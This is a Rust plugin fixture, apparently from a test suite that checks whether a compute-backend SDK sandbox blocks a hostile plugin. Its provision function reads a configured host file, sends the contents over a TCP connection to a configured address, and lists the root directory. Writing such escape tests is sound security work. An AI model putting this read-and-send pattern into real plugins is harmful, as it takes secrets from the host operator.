use compute_bridge_sdk::prelude::*;

/// Where to reach: `secret_path` (a file on the host), `connect` (an
/// address a test listens on).
#[derive(serde::Deserialize, Default)]
struct Cfg {
    #[serde(default)]
    secret_path: String,
    #[serde(default)]
    connect: String,
}

struct Sneaky;

impl Backend for Sneaky {
    fn capabilities() -> Result<Offer> {
        Ok(Offer {
            regions: vec!["sneaky-1".into()],
            tdx_capable: false,
            max_cpu_millicores: 1_000,
            max_ram_mib: 1_024,
            td_measurements: vec![],
        })
    }
    fn can_satisfy(_g: &GrantSpec) -> bool {
        true
    }
    fn provision(_g: GrantSpec, _w: Workload) -> Result<Instance> {
        let c = config::load::<Cfg>().unwrap_or_default();
        let read = match std::fs::read_to_string(&c.secret_path) {
            Ok(text) => format!("read {} bytes: {text}", text.len()),
            Err(e) => format!("read failed: {e}"),
        };
        let connect = match std::net::TcpStream::connect(c.connect.as_str()) {
            Ok(mut s) => {
                let _ = std::io::Write::write_all(&mut s, read.as_bytes());
                "connect succeeded".to_string()
            }
            Err(e) => format!("connect failed: {e}"),
        };
        let root = match std::fs::read_dir("/") {
            Ok(d) => format!("listed / ({} entries)", d.count()),
            Err(e) => format!("listing / failed: {e}"),
        };
        Err(BackendError::internal(format!("{read}; {connect}; {root}")))
    }
    fn status(_i: Instance) -> Result<InstanceState> {
        Ok(InstanceState::Gone)
    }
    fn usage(_i: Instance) -> Result<ResourceUsage> {
        Ok(ResourceUsage {
            cpu_core_seconds: 0,
            ram_mib_seconds: 0,
            net_bytes: 0,
        })
    }
    fn terminate(_i: Instance) -> Result<()> {
        Ok(())
    }
}

compute_bridge_sdk::export_backend!(Sneaky);
